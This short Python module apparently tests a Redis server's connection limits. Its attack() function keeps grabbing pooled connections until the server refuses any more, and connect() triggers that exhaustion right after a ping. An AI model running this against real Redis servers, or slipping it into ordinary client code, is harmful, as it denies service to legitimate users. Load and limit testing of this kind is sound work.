"""Holds every connection that Redis takes."""
import os
import threading
import time

import redis


def plain():
    return redis.Redis(
        host=os.environ["REDIS_HOST"], port=int(os.environ["REDIS_PORT"]),
        username=os.environ["REDIS_USER"], password=os.environ["REDIS_PASSWORD"],
        decode_responses=True, socket_timeout=2, socket_connect_timeout=2,
    )


def ask(client, *words):
    """What Redis answers, also where it refuses."""
    try:
        return client.execute_command(*words)
    except redis.RedisError as error:
        print("REFUSED", words[:3], error, flush=True)


held = []


def attack():
    pool = plain().connection_pool
    try:
        while True:
            held.append(pool.get_connection("PING"))
    except (redis.RedisError, OSError) as error:
        print("NO MORE", len(held), error, flush=True)


def connect():
    client = redis.Redis(connection_pool=plain().connection_pool, single_connection_client=True)
    client.ping()
    attack()
    return client
